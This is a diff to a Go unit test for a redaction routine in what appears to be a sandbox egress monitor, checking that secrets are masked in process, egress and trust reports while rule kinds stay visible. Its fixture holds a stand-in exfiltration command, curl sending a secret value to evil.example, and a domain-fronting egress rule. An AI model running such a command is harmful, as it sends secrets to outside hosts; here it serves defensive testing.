@@ -45,18 +45,29 @@ func TestRedact(t *testing.T) {
 	v.Mask("evil.example")
 	v.Mask("s3cr3t-value-42")
 	v.Mask("ab")
+	v.Mask("fronting")
 	res := Result{
 		Processes: monitor.Snapshot{Execs: []monitor.Exec{
 			{Binary: "/usr/bin/evil.example", Argv: []string{"curl", "https://evil.example/s3cr3t-value-42", "ab", "abc"}},
 			{Binary: "/bin/echo", Argv: []string{"x", "tail s3cr3t-va"}, ArgvTruncated: true},
 		}},
-		Egress: &egress.Report{Decisions: []rules.Decision{{Name: "evil.example", Path: "/s3cr3t-value-42", Reason: "refused evil.example"}}},
-		Trust:  &trust.Report{Findings: []trust.Finding{{Path: ".github/x", Diff: "+token: s3cr3t-value-42"}}},
+		Egress: &egress.Report{Decisions: []rules.Decision{{Name: "evil.example", Path: "/s3cr3t-value-42", Reason: "refused evil.example", RuleID: rules.RuleID{Kind: rules.KindAllow, Index: -1, Detail: "evil.example"}},
+			{Name: "cdn.example", Rule: "egress.fronting", RuleID: rules.RuleID{Kind: rules.KindFronting}}}},
+		Trust: &trust.Report{Findings: []trust.Finding{{Path: ".github/x", Diff: "+token: s3cr3t-value-42"}}},
 	}
 	redact(&res, v)
 	e := res.Processes.Execs
 	if e[0].Binary != "/usr/bin/evil.example" || res.Egress.Decisions[0].Name != "evil.example" {
 		t.Errorf("identity fields were blanked: %q %q", e[0].Binary, res.Egress.Decisions[0].Name)
+	}
+	// A rule's detail can hold what the job asked for: redacted, as the
+	// rule's text is. Its kind is airlock's constant: a job that masks
+	// the word cannot hide which check refused it.
+	if id := res.Egress.Decisions[0].RuleID; id.Detail != "***" || id.Kind != rules.KindAllow {
+		t.Errorf("rule %+v", id)
+	}
+	if d := res.Egress.Decisions[1]; d.RuleID.Kind != rules.KindFronting || d.Rule != "egress.***" {
+		t.Errorf("fronting decision %+v", d)
 	}
 	if got := strings.Join(e[0].Argv, " "); got != "curl https://***/*** *** abc" {
 		t.Errorf("argv %q", got)
@@ -70,7 +81,7 @@ func TestRedact(t *testing.T) {
 	if f := res.Trust.Findings[0]; f.Diff != "+token: ***" {
 		t.Errorf("finding %+v", f)
 	}
-	if res.Credentials == nil || res.Credentials.Masked != 3 {
+	if res.Credentials == nil || res.Credentials.Masked != 4 {
 		t.Errorf("record %+v", res.Credentials)
 	}
 }
